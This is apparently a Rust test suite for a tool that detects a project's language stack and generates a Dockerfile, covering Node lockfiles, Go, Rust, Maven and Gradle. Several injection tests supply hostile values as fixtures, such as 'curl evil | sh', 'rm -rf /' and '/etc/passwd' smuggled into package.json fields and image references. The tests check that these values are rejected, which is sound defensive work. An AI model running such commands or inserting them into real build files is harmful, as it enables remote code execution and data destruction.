            # generated by labwright: node (found package.json (yarn, yarn.lock))
            FROM labwright/node:18
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY package.json yarn.lock /app/
            RUN yarn install --frozen-lockfile
            COPY --chown=65534:65534 . /app
            RUN yarn build
            ENV HOME=/tmp
            USER 65534:65534
            CMD ["yarn", "start"]
        "##]]
        .assert_eq(&detection.dockerfile);
    }

    #[test]
    fn node_lockfiles() {
        let cases = [
            (
                "package-lock.json",
                "npm",
                "RUN npm ci\n",
                r#"CMD ["npm", "start"]"#,
            ),
            (
                "npm-shrinkwrap.json",
                "npm",
                "RUN npm ci\n",
                r#"CMD ["npm", "start"]"#,
            ),
            (
                "yarn.lock",
                "yarn",
                "RUN yarn install --frozen-lockfile\n",
                r#"CMD ["yarn", "start"]"#,
            ),
            (
                "pnpm-lock.yaml",
                "pnpm",
                "RUN corepack enable && pnpm install --frozen-lockfile\n",
                r#"CMD ["pnpm", "start"]"#,
            ),
        ];
        for (lockfile, manager, install, start) in cases {
            let repo = TempRepo::with(&[
                ("package.json", r#"{"scripts": {"start": "node ."}}"#),
                (lockfile, ""),
            ]);
            let detection = repo.detection();
            assert_eq!(
                detection.evidence,
                format!("found package.json ({manager}, {lockfile})")
            );
            let dockerfile = &detection.dockerfile;
            assert!(
                dockerfile.contains(&format!("COPY package.json {lockfile} /app/\n{install}")),
                "{dockerfile}"
            );
            assert_eq!(cmd(dockerfile), start);
            assert!(!dockerfile.contains("RUN npm run build"), "{dockerfile}");
        }
    }

    #[test]
    fn node_pnpm_keeps_corepack_readable() {
        let repo = TempRepo::with(&[
            ("package.json", r#"{"scripts": {"build": "tsc"}}"#),
            ("pnpm-lock.yaml", ""),
        ]);
        expect![[r##"
            # generated by labwright: node (found package.json (pnpm, pnpm-lock.yaml))
            FROM labwright/node:18
            ENV COREPACK_HOME=/usr/local/share/corepack COREPACK_ENABLE_DOWNLOAD_PROMPT=0
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY package.json pnpm-lock.yaml /app/
            RUN corepack enable && pnpm install --frozen-lockfile
            COPY --chown=65534:65534 . /app
            RUN pnpm build
            ENV HOME=/tmp
            USER 65534:65534
            # nothing to start: keep the sandbox up for its terminal
            CMD ["sleep", "infinity"]
        "##]]
        .assert_eq(&repo.detection().dockerfile);
    }

    #[test]
    fn node_without_lockfile() {
        let repo = TempRepo::with(&[
            ("package.json", r#"{"main": "src/index.js"}"#),
            (".npmrc", ""),
        ]);
        let detection = repo.detection();
        assert_eq!(detection.evidence, "found package.json (npm, no lockfile)");
        expect![[r##"
            # generated by labwright: node (found package.json (npm, no lockfile))
            FROM labwright/node:18
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY package.json .npmrc /app/
            RUN npm install
            COPY --chown=65534:65534 . /app
            ENV HOME=/tmp
            USER 65534:65534
            CMD ["node", "src/index.js"]
        "##]]
        .assert_eq(&detection.dockerfile);
    }

    #[test]
    fn node_install_needing_the_sources_copies_everything_first() {
        let packages = [
            r#"{"scripts": {"postinstall": "patch-package"}}"#,
            r#"{"scripts": {"prepare": "husky"}}"#,
            r#"{"workspaces": ["packages/*"]}"#,
            r#"{"dependencies": {"shared": "file:./shared"}}"#,
            r#"{"pnpm": {"patchedDependencies": {"a@1.0.0": "patches/a.patch"}}}"#,
        ];
        for package in packages {
            let repo = TempRepo::with(&[("package.json", package), ("package-lock.json", "")]);
            let dockerfile = repo.detection().dockerfile;
            assert!(
                dockerfile.contains("COPY --chown=65534:65534 . /app\nRUN npm ci\n"),
                "{package}: {dockerfile}"
            );
        }
        for file in ["pnpm-workspace.yaml", ".yarnrc.yml"] {
            let repo = TempRepo::with(&[("package.json", "{}"), ("yarn.lock", ""), (file, "")]);
            let dockerfile = repo.detection().dockerfile;
            assert!(
                dockerfile.contains("COPY --chown=65534:65534 . /app\nRUN yarn install"),
                "{file}: {dockerfile}"
            );
        }
    }

    #[test]
    fn node_main_is_used_only_when_it_is_a_plain_relative_path() {
        for main in ["index.js", "dist/server.js", "./lib/main.js", "app"] {
            let repo = TempRepo::with(&[("package.json", &format!(r#"{{"main": "{main}"}}"#))]);
            assert_eq!(
                cmd(&repo.detection().dockerfile),
                format!(r#"CMD ["node", "{main}"]"#)
            );
        }
        let unsafe_mains = [
            r#""/etc/passwd""#,
            r#""../outside.js""#,
            r#""--require=evil""#,
            r#""a\nRUN curl evil | sh""#,
            r#""x\", \"y""#,
            r#""index.js; rm -rf /""#,
            r#""""#,
            "42",
            "null",
        ];
        for main in unsafe_mains {
            let repo = TempRepo::with(&[("package.json", &format!(r#"{{"main": {main}}}"#))]);
            let dockerfile = repo.detection().dockerfile;
            assert_eq!(cmd(&dockerfile), r#"CMD ["sleep", "infinity"]"#, "{main}");
        }
    }

    #[test]
    fn node_package_json_values_stay_out_of_the_dockerfile() {
        let package = r#"{"name": "evil\nRUN x", "scripts": {"build": "evil\nRUN x", "start": "evil\nRUN x"}}"#;
        let repo = TempRepo::with(&[("package.json", package)]);
        let dockerfile = repo.detection().dockerfile;
        assert!(!dockerfile.contains("evil"), "{dockerfile}");
        assert!(dockerfile.contains("RUN npm run build\n"), "{dockerfile}");
    }

    #[test]
    fn node_invalid_package_json() {
        let repo = TempRepo::with(&[("package.json", "{\"name\": ")]);
        assert_eq!(
            repo.invalid(),
            "package.json: EOF while parsing a value at line 1 column 9"
        );
        repo.write("package.json", "[1, 2]");
        assert_eq!(repo.invalid(), "package.json: expected a JSON object");
    }

    #[test]
    fn go() {
        let repo = TempRepo::with(&[
            ("go.mod", "module example.com/hello\n\ngo 1.22\n"),
            ("go.sum", ""),
            ("main.go", "package main\n"),
        ]);
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::Go);
        assert_eq!(detection.evidence, "found go.mod");
        expect![[r##"
            # generated by labwright: go (found go.mod)
            FROM labwright/go:1 AS build
            WORKDIR /app
            COPY go.mod go.sum /app/
            RUN go mod download
            COPY . /app
            RUN CGO_ENABLED=0 go build -o /out/app .

            FROM labwright/runtime:12
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY --from=build --chown=65534:65534 /out/app /app/app
            USER 65534:65534
            CMD ["/app/app"]
        "##]]
        .assert_eq(&detection.dockerfile);

        repo.remove("go.sum");
        let dockerfile = repo.detection().dockerfile;
        assert!(
            dockerfile.contains("COPY go.mod /app/\nRUN go mod download\n"),
            "{dockerfile}"
        );
    }

    #[test]
    fn go_with_local_replacements_copies_everything_first() {
        let go_mods = [
            "module a\n\nreplace example.com/b => ./b\n",
            "module a\n\nreplace (\n\texample.com/b v1.0.0 => ../b // sibling\n)\n",
        ];
        for go_mod in go_mods {
            let repo = TempRepo::with(&[("go.mod", go_mod)]);
            let dockerfile = repo.detection().dockerfile;
            assert!(
                dockerfile.contains("COPY . /app\nRUN go mod download\n"),
                "{dockerfile}"
            );
        }
        let repo = TempRepo::with(&[(
            "go.mod",
            "module a\n\nreplace example.com/b => example.com/c v1.2.0\n",
        )]);
        assert!(repo.detection().dockerfile.contains("COPY go.mod /app/\n"));
    }

    #[test]
    fn rust() {
        let repo = TempRepo::with(&[("Cargo.toml", CARGO_TOML), ("Cargo.lock", "")]);
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::Rust);
        assert_eq!(detection.evidence, "found Cargo.toml");
        expect![[r##"
            # generated by labwright: rust (found Cargo.toml)
            FROM labwright/rust:1 AS build
            WORKDIR /app
            COPY . /app
            RUN cargo build --release --locked

            FROM labwright/runtime:12
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY --from=build --chown=65534:65534 /app/target/release/hello-web /app/hello-web
            USER 65534:65534
            CMD ["/app/hello-web"]
        "##]]
        .assert_eq(&detection.dockerfile);

        repo.remove("Cargo.lock");
        let dockerfile = repo.detection().dockerfile;
        assert!(
            dockerfile.contains("RUN cargo build --release\n"),
            "{dockerfile}"
        );
    }

    #[test]
    fn rust_first_bin_names_the_binary() {
        let cargo_toml = format!(
            "{CARGO_TOML}\n[[bin]]\nname = \"server\"\npath = \"src/server.rs\"\n\n[[bin]]\nname = \"tool\"\n"
        );
        let repo = TempRepo::with(&[("Cargo.toml", &cargo_toml)]);
        let dockerfile = repo.detection().dockerfile;
        assert!(
            dockerfile.contains(
                "COPY --from=build --chown=65534:65534 /app/target/release/server /app/server\n"
            ),
            "{dockerfile}"
        );
        assert_eq!(cmd(&dockerfile), r#"CMD ["/app/server"]"#);
    }

    #[test]
    fn rust_invalid_manifests() {
        let repo = TempRepo::with(&[("Cargo.toml", "[workspace]\nmembers = [\"crates/*\"]\n")]);
        assert_eq!(
            repo.invalid(),
            "Cargo.toml: a workspace root without a package; set subdir to the crate to build"
        );
        repo.write("Cargo.toml", "[package]\nname = \"a b\"\n");
        assert_eq!(
            repo.invalid(),
            r#"Cargo.toml: binary name "a b" must be 1 to 64 of A-Z, a-z, 0-9, '_' and '-'"#
        );
        repo.write(
            "Cargo.toml",
            "[package]\nname = \"ok\"\n[[bin]]\nname = \"x\\nRUN evil\"\n",
        );
        assert!(
            repo.invalid()
                .starts_with("Cargo.toml: binary name \"x\\nRUN evil\""),
            "{}",
            repo.invalid()
        );
        repo.write(
            "Cargo.toml",
            &format!("[package]\nname = \"{}\"\n", "a".repeat(65)),
        );
        assert!(repo.invalid().starts_with("Cargo.toml: binary name"));
        repo.write("Cargo.toml", "[dependencies]\n");
        assert_eq!(repo.invalid(), "Cargo.toml: no [package] section");
        repo.write("Cargo.toml", "[package]\nversion = \"1.0.0\"\n");
        assert_eq!(repo.invalid(), "Cargo.toml: [package] has no name");
        repo.write("Cargo.toml", "[package\n");
        assert!(
            repo.invalid().starts_with("Cargo.toml: TOML parse error"),
            "{}",
            repo.invalid()
        );
    }

    #[test]
    fn maven() {
        let repo = TempRepo::with(&[("pom.xml", "<project/>\n")]);
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::JavaMaven);
        assert_eq!(detection.evidence, "found pom.xml");
        expect![[r##"
            # generated by labwright: java_maven (found pom.xml)
            FROM labwright/java:17 AS build
            WORKDIR /app
            COPY . /app
            RUN mvn -q -B -DskipTests package
            RUN jar="$(ls -S target/*.jar 2>/dev/null | grep -Ev '(-sources|-javadoc|-tests|-test-fixtures|-plain)\.jar$|/original-[^/]*$' | head -n 1)"; \
                if [ -z "$jar" ]; then echo "labwright: the build left no application jar in target/" >&2; exit 1; fi; \
                echo "labwright: using $jar" && mkdir -p /out && cp "$jar" /out/app.jar

            FROM labwright/java:17
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY --from=build --chown=65534:65534 /out/app.jar /app/app.jar
            USER 65534:65534
            CMD ["java", "-jar", "/app/app.jar"]
        "##]]
        .assert_eq(&detection.dockerfile);
    }

    #[test]
    fn gradle_with_wrapper() {
        let repo = TempRepo::with(&[("build.gradle.kts", ""), ("gradlew", "#!/bin/sh\n")]);
        fs::set_permissions(repo.path.join("gradlew"), fs::Permissions::from_mode(0o755)).unwrap();
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::JavaGradle);
        assert_eq!(detection.evidence, "found build.gradle.kts (./gradlew)");
        expect![[r##"
            # generated by labwright: java_gradle (found build.gradle.kts (./gradlew))
            FROM labwright/java:17 AS build
            WORKDIR /app
            COPY . /app
            RUN ./gradlew --no-daemon -q build -x test
            RUN jar="$(ls -S build/libs/*.jar 2>/dev/null | grep -Ev '(-sources|-javadoc|-tests|-test-fixtures|-plain)\.jar$|/original-[^/]*$' | head -n 1)"; \
                if [ -z "$jar" ]; then echo "labwright: the build left no application jar in build/libs/" >&2; exit 1; fi; \
                echo "labwright: using $jar" && mkdir -p /out && cp "$jar" /out/app.jar

            FROM labwright/java:17
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY --from=build --chown=65534:65534 /out/app.jar /app/app.jar
            USER 65534:65534
            CMD ["java", "-jar", "/app/app.jar"]
        "##]]
        .assert_eq(&detection.dockerfile);
    }

    #[test]
    fn gradle_without_an_executable_wrapper() {
        let repo = TempRepo::with(&[("build.gradle", ""), ("build.gradle.kts", "")]);
        let detection = repo.detection();
        assert_eq!(detection.evidence, "found build.gradle (gradle)");
        assert!(
            detection
                .dockerfile
                .contains("RUN gradle --no-daemon -q build -x test\n")
        );
        repo.write("gradlew", "#!/bin/sh\n");
        fs::set_permissions(repo.path.join("gradlew"), fs::Permissions::from_mode(0o644)).unwrap();
        assert!(
            repo.detection()
                .dockerfile
                .contains("RUN gradle --no-daemon -q build -x test\n")
        );
    }

    #[test]
    fn no_stack() {
        assert!(matches!(
            TempRepo::new().detect(),
            Err(DetectError::NoStack)
        ));
        let repo = TempRepo::with(&[("README.md", "# hello\n")]);
        assert!(matches!(repo.detect(), Err(DetectError::NoStack)));
    }

    #[test]
    fn missing_context_is_an_io_error() {
        let repo = TempRepo::new();
        let missing = repo.path.join("missing");
        assert!(matches!(
            detect(&missing, &BaseImages::default()),
            Err(DetectError::Io(_))
        ));
    }

    #[test]
    fn oversized_files_are_rejected() {
        let big = "#".repeat(MAX_FILE_BYTES as usize + 1);
        for marker in [
            "Dockerfile",
            "package.json",
            "Cargo.toml",
            "go.mod",
            "requirements.txt",
        ] {
            let repo = TempRepo::with(&[(marker, &big)]);
            assert_eq!(repo.invalid(), format!("{marker}: larger than 1 MiB"));
        }
        let exactly = "#".repeat(MAX_FILE_BYTES as usize);
        let repo = TempRepo::with(&[("Dockerfile", &exactly)]);
        assert_eq!(repo.detection().dockerfile.len(), exactly.len());
    }

    #[test]
    fn symlinked_and_directory_markers_are_ignored() {
        let outside =
            TempRepo::with(&[("Cargo.toml", CARGO_TOML), ("Dockerfile", "FROM scratch\n")]);
        let repo = TempRepo::with(&[("requirements.txt", "")]);
        std::os::unix::fs::symlink(
            outside.path.join("Dockerfile"),
            repo.path.join("Dockerfile"),
        )
        .unwrap();
        std::os::unix::fs::symlink(
            outside.path.join("Cargo.toml"),
            repo.path.join("Cargo.toml"),
        )
        .unwrap();
        std::os::unix::fs::symlink("main.py.elsewhere", repo.path.join("main.py")).unwrap();
        fs::create_dir(repo.path.join("package.json")).unwrap();
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::Python);
        assert_eq!(cmd(&detection.dockerfile), r#"CMD ["sleep", "infinity"]"#);
    }

    #[test]
    fn image_references_are_checked() {
        let repo = TempRepo::with(&[("Cargo.toml", CARGO_TOML)]);
        let images = BaseImages {
            runtime: "debian:12\nRUN curl evil | sh".to_owned(),
            ..BaseImages::default()
        };
        match detect(&repo.path, &images) {
            Err(error @ DetectError::Invalid { .. }) => assert_eq!(
                error.to_string(),
                r#"build_images: runtime = "debian:12\nRUN curl evil | sh" is not a valid image reference"#
            ),
            other => panic!("expected Invalid, got {other:?}"),
        }
        for bad in ["", "-debian", "debian 12", &"a".repeat(256)] {
            let images = BaseImages {
                rust: bad.to_owned(),
                ..BaseImages::default()
            };
            assert!(
                matches!(
                    detect(&repo.path, &images),
                    Err(DetectError::Invalid { .. })
                ),
                "{bad:?}"
            );
        }
        let images = BaseImages {
            rust: "registry.example.com:5000/tools/rust@sha256:0123abcd".to_owned(),
            ..BaseImages::default()
        };
        assert!(
            detect(&repo.path, &images)
                .unwrap()
                .dockerfile
                .contains("FROM registry.example.com:5000/tools/rust@sha256:0123abcd AS build\n")
        );
        // An image a stack does not use is not checked.
        let images = BaseImages {
            python: "bad\n".to_owned(),
            ..BaseImages::default()
        };
        assert!(detect(&repo.path, &images).is_ok());
    }

    #[test]
    fn base_images_configuration() {
        let images: BaseImages = toml::from_str("python = \"python:3.12-slim\"\n").unwrap();
        assert_eq!(
            images,
            BaseImages {
                python: "python:3.12-slim".to_owned(),
                ..BaseImages::default()
            }
        );
        assert!(toml::from_str::<BaseImages>("pyhton = \"python:3\"\n").is_err());
    }

    #[test]
    fn stack_names() {
        let stacks = [
            Stack::Dockerfile,
            Stack::Python,
            Stack::Node,
            Stack::JavaMaven,
            Stack::JavaGradle,
            Stack::Go,
            Stack::Rust,
        ];
        for stack in stacks {
            assert_eq!(serde_json::to_value(stack).unwrap(), stack.name());
        }
        assert_eq!(Stack::JavaGradle.name(), "java_gradle");
    }
}
